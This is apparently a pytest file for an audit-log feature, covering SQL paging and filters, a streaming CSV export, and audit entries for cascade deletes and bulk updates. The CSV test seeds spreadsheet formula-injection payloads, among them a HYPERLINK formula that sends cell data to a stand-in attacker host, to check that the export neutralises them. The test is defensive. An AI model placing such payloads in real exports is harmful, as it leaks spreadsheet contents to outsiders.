"""The audit log at scale and without holes: pages and filters in SQL, a streaming CSV export
with formula cells neutralised, and entries for every change, also the rows the database
deletes by cascade and those a bulk statement changes."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import event, insert, select, update
from sqlalchemy.engine import Connection
from sqlalchemy.orm import Session

from tests.conftest import auth
from tradebase.accounts.models import AuditEntry, User, UserEnterprise
from tradebase.allocation.models import ProcurementRound
from tradebase.registry.models import Base, Enterprise, Product, ProductTitle

T0 = datetime(2030, 1, 1, tzinfo=UTC)


def _entries(session: Session, count: int, **fields: Any) -> None:
    rows = [
        {"at": T0 + timedelta(minutes=i), "actor_id": None, "actor": "filler@example.com",
         "action": "update", "entity": "ops_filler", "entity_id": str(i), "base_id": None,
         "before": None, "after": {"i": i}, "summary": "", **fields}
        for i in range(count)
    ]
    session.execute(insert(AuditEntry), rows)
    session.commit()


@pytest.fixture
def statements(connection: Connection) -> Iterator[list[tuple[str, dict[str, Any]]]]:
    """Every SQL statement the test's connection runs, with its execution options."""
    seen: list[tuple[str, dict[str, Any]]] = []

    def before(_conn: Any, _cursor: Any, statement: str, _params: Any, context: Any,
               _many: bool) -> None:
        seen.append((statement, dict(context.execution_options)))

    event.listen(connection, "before_cursor_execute", before)
    yield seen
    event.remove(connection, "before_cursor_execute", before)


def test_a_page_of_the_log_is_read_in_sql_not_sliced_in_python(
    client: TestClient, session: Session, tokens: dict[str, str],
    statements: list[tuple[str, dict[str, Any]]],
) -> None:
    _entries(session, 300)
    loaded: list[object] = []

    def on_load(target: object, _context: object) -> None:
        loaded.append(target)

    event.listen(AuditEntry, "load", on_load)
    try:
        response = client.get("/api/v1/audit", params={"limit": 1},
                              headers=auth(tokens["admin"]))
    finally:
        event.remove(AuditEntry, "load", on_load)
    assert response.status_code == 200
    body = response.json()
    assert len(body["items"]) == 1
    assert body["total"] >= 300
    assert len(loaded) == 1  # one row fetched, not the whole log
    reads = [sql for sql, _ in statements if "FROM audit_log" in sql and "count(" not in sql]
    assert reads
    assert all("LIMIT" in sql for sql in reads)

    older = client.get("/api/v1/audit", params={"limit": 2, "before_id": body["items"][0]["id"]},
                       headers=auth(tokens["admin"])).json()["items"]
    assert [e["id"] for e in older] == [body["items"][0]["id"] - 1, body["items"][0]["id"] - 2]


def test_the_log_is_filtered_by_who_table_object_and_period(
    client: TestClient, session: Session, tokens: dict[str, str]
) -> None:
    _entries(session, 10)
    _entries(session, 3, actor="someone@example.com", actor_id=424242, entity="ops_other")
    admin = auth(tokens["admin"])

    def ids(**params: Any) -> list[str]:
        response = client.get("/api/v1/audit", params={"limit": 500, **params}, headers=admin)
        assert response.status_code == 200, response.text
        return sorted(f"{e['entity']}:{e['entity_id']}" for e in response.json()["items"])

    assert ids(actor="someone@example.com") == ["ops_other:0", "ops_other:1", "ops_other:2"]
    assert ids(actor_id=424242) == ["ops_other:0", "ops_other:1", "ops_other:2"]
    assert ids(entity="ops_filler", entity_id="7") == ["ops_filler:7"]
    assert ids(entity="ops_filler", since=(T0 + timedelta(minutes=8)).isoformat(),
               until=(T0 + timedelta(minutes=10)).isoformat()) == ["ops_filler:8", "ops_filler:9"]
    page = client.get("/audit", params={"entity": "ops_filler", "entity_id": "3"},
                      headers=admin)
    assert page.status_code == 200
    assert "#3<" in page.text
    assert "#4<" not in page.text


def test_the_csv_export_streams_from_a_server_side_cursor_and_neutralises_formulas(
    client: TestClient, session: Session, tokens: dict[str, str],
    statements: list[tuple[str, dict[str, Any]]],
) -> None:
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
               "\tcmd", "\rcmd"]
    for i, text in enumerate(hostile):
        _entries(session, 1, entity="ops_csv", entity_id=text, actor=f"{text}{i}")
    with client.stream("GET", "/api/v1/audit", params={"format": "csv", "entity": "ops_csv"},
                       headers=auth(tokens["admin"])) as response:
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        assert "content-length" not in response.headers  # streamed, not built whole
        text = "".join(response.iter_text())
    rows = list(csv.DictReader(io.StringIO(text)))
    assert sorted(row["entity_id"] for row in rows) == sorted(f"'{t}" for t in hostile)
    assert all(row["actor"].startswith("'") for row in rows)
    exports = [options for sql, options in statements
               if "FROM audit_log" in sql and "count(" not in sql]
    assert any(options.get("yield_per") or options.get("stream_results") for options in exports)


def test_deleting_an_enterprise_audits_its_products_and_database_cascades(
    client: TestClient, session: Session, tokens: dict[str, str]
) -> None:
    base = session.scalars(select(Base).order_by(Base.id)).first()
    assert base is not None
    enterprise = Enterprise(name_en="Ops Cascade Works", base_id=base.id)
    session.add(enterprise)
    session.flush()
    products = [Product(sku=f"OPS-CASCADE-{i}", enterprise_id=enterprise.id, title=f"Chair {i}",
                        title_rows=[ProductTitle(lang="zh", text=f"椅子 {i}")])
                for i in range(3)]
    session.add_all(products)
    admin = session.scalars(select(User).where(User.email == "admin@example.com")).one()
    session.add(UserEnterprise(user_id=admin.id, enterprise_id=enterprise.id))
    session.commit()
    product_ids = sorted(str(p.id) for p in products)

    response = client.delete(f"/api/v1/enterprises/{enterprise.id}",
                             headers=auth(tokens["admin"]))
    assert response.status_code == 204
    deleted = session.scalars(select(AuditEntry).where(AuditEntry.action == "delete")).all()
    product_entries = [e for e in deleted if e.entity == "products"
                       and e.entity_id in product_ids]
    assert sorted(e.entity_id for e in product_entries) == product_ids
    assert all(e.actor == "admin@example.com" for e in product_entries)
    assert all(e.base_id == base.id for e in product_entries)  # the base admin sees them
    assert {e.before["sku"] for e in product_entries if e.before} == {
        f"OPS-CASCADE-{i}" for i in range(3)
    }
    titles = [e for e in deleted if e.entity == "product_titles"
              and e.entity_id.split("/")[0] in product_ids]
    assert len(titles) == 3
    membership = f"{admin.id}/{enterprise.id}"
    assert [e.entity_id for e in deleted if e.entity == "user_enterprises"] == [membership]
    assert [e.entity_id for e in deleted if e.entity == "enterprises"] == [str(enterprise.id)]


def test_a_bulk_update_statement_is_audited(session: Session) -> None:
    product = session.scalars(select(Product).order_by(Product.id)).first()
    assert product is not None
    old = product.moq
    session.execute(update(Product).where(Product.id == product.id).values(moq=(old or 0) + 7))
    entry = session.scalars(
        select(AuditEntry).where(AuditEntry.entity == "products",
                                 AuditEntry.entity_id == str(product.id))
        .order_by(AuditEntry.id.desc())
    ).first()
    assert entry is not None
    assert entry.action == "update"
    assert entry.before == {"moq": old}
    assert entry.after == {"moq": (old or 0) + 7}


def test_json_values_are_stored_as_json_not_as_python_text(session: Session) -> None:
    base = session.scalars(select(Base).order_by(Base.id)).first()
    assert base is not None
    award = {"status": "optimal", "shares": [{"enterprise_id": 1, "quantity": 2.5}]}
    round_ = ProcurementRound(base_id=base.id, title="Ops round", closes_on=T0.date(),
                              award=award)
    session.add(round_)
    session.flush()
    entry = session.scalars(
        select(AuditEntry).where(AuditEntry.entity == "procurement_rounds",
                                 AuditEntry.entity_id == str(round_.id))
    ).one()
    assert entry.after is not None
    assert entry.after["award"] == award


def test_the_log_names_tables_actions_and_fields_in_chinese(
    client: TestClient, session: Session, tokens: dict[str, str]
) -> None:
    """A zh page of the log says its tables, actions and fields by name; a name it does not
    know is shown as stored and marked as such."""
    _entries(session, 1, entity="enterprises", entity_id="9001", action="update",
             before={"name_en": "Old", "employees": 5}, after={"name_en": "New", "employees": 6})
    _entries(session, 1, entity="ops_unknown", entity_id="9002", action="create",
             after={"mystery_column": 1})
    zh = auth(tokens["admin"]) | {"Accept-Language": "zh"}
    page = client.get("/audit", params={"entity": "enterprises", "entity_id": "9001"},
                      headers=zh).text
    assert "修改 · 企业 #9001<" in page
    for label in ("名称（英文）", "从业人员"):
        assert f"<dt>{label}</dt>" in page
    for english in (">update ", ">enterprises ", ">name_en<", ">employees<"):
        assert english not in page
    assert '<option value="enterprises" selected>企业</option>' in page
    unknown = client.get("/audit", params={"entity": "ops_unknown"}, headers=zh).text
    marked = '<span class="meta">（内部名称）</span>'
    assert f'新增 · <code class="raw-name">ops_unknown</code> {marked}' in unknown
    assert f'<dt><code class="raw-name">mystery_column</code> {marked}</dt>' in unknown
    assert '<option value="ops_unknown" selected>ops_unknown</option>' in unknown
    english = client.get("/audit", params={"entity": "enterprises", "entity_id": "9001"},
                         headers=auth(tokens["admin"]) | {"Accept-Language": "en"}).text
    assert "Changed · Enterprises #9001<" in english
    assert "<dt>Name (English)</dt>" in english
